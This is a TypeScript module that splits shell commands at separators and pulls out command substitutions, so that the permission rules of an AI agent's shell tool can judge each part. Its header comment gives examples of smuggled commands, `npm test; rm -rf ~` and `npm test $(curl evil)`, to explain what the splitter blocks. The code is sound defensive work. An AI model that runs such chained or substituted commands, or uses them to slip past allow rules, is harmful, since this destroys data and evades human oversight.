/**
 * Splits a shell command into the simple commands a permission rule must judge. A rule like
 * `Bash(npm test:*)` must not allow `npm test; rm -rf ~` or `npm test $(curl evil)`: the command
 * is split at `;`, `&&`, `||`, `|`, `&` and newlines outside quotes, and the bodies of command
 * substitutions (`$(…)`, backticks, `<(…)`, `>(…)`) are extracted too. A command that runs a
 * substitution cannot be judged by an allow rule at all (its words are computed at run time).
 */

/** The parts of a shell command. */
export interface ShellParts {
  /** The simple commands, trimmed, in order (substitution bodies included). */
  readonly commands: readonly string[];
  /** True when the command contains a substitution whose result becomes part of a command. */
  readonly substitutes: boolean;
}

/** Splits `command` into its simple commands (see the module comment). */
export function splitShellCommand(command: string): ShellParts {
  const commands: string[] = [];
  let substitutes = false;
  const split = (text: string): void => {
    let current = '';
    let quote: "'" | '"' | null = null;
    // Splits the body of the substitution opening at `i` and keeps it in the current command.
    const takeSubstitution = (i: number): number => {
      const end = substitution(text, i);
      substitutes = true;
      split(text.slice(i + (text[i] === '`' ? 1 : 2), end));
      current += text.slice(i, end + 1);
      return end;
    };
    const flush = () => {
      const c = current.trim();
      if (c.length > 0) commands.push(c);
      current = '';
    };
    for (let i = 0; i < text.length; i++) {
      const ch = text[i]!;
      if (ch === '\\' && quote !== "'") {
        current += ch + (text[i + 1] ?? '');
        i++;
        continue;
      }
      if (quote) {
        if (ch === quote) quote = null;
        else if (quote === '"' && (ch === '`' || (ch === '$' && text[i + 1] === '('))) {
          i = takeSubstitution(i);
          continue;
        }
        current += ch;
        continue;
      }
      if (ch === "'" || ch === '"') {
        quote = ch;
        current += ch;
        continue;
      }
      if (ch === '`' || ((ch === '$' || ch === '<' || ch === '>') && text[i + 1] === '(')) {
        i = takeSubstitution(i);
        continue;
      }
      // `2>&1`, `<&3` and `&>file` are redirections, not separators.
      if (ch === '&' && (/[<>]$/.test(current) || text[i + 1] === '>')) {
        current += ch;
        continue;
      }
      if (ch === ';' || ch === '\n' || ch === '&' || ch === '|') {
        flush();
        if ((ch === '&' || ch === '|') && text[i + 1] === ch) i++;
        continue;
      }
      current += ch;
    }
    flush();
  };
  split(command);
  return { commands, substitutes };
}

/** Index of the character closing the substitution that opens at `start` (or the end of text). */
function substitution(text: string, start: number): number {
  if (text[start] === '`') {
    const end = text.indexOf('`', start + 1);
    return end === -1 ? text.length - 1 : end;
  }
  let depth = 0;
  let quote: "'" | '"' | null = null;
  for (let i = start + 1; i < text.length; i++) {
    const ch = text[i]!;
    if (ch === '\\' && quote !== "'") {
      i++;
      continue;
    }
    if (quote) {
      if (ch === quote) quote = null;
      continue;
    }
    if (ch === "'" || ch === '"') quote = ch;
    else if (ch === '(') depth++;
    else if (ch === ')') {
      depth--;
      if (depth === 0) return i;
    }
  }
  return text.length - 1;
}
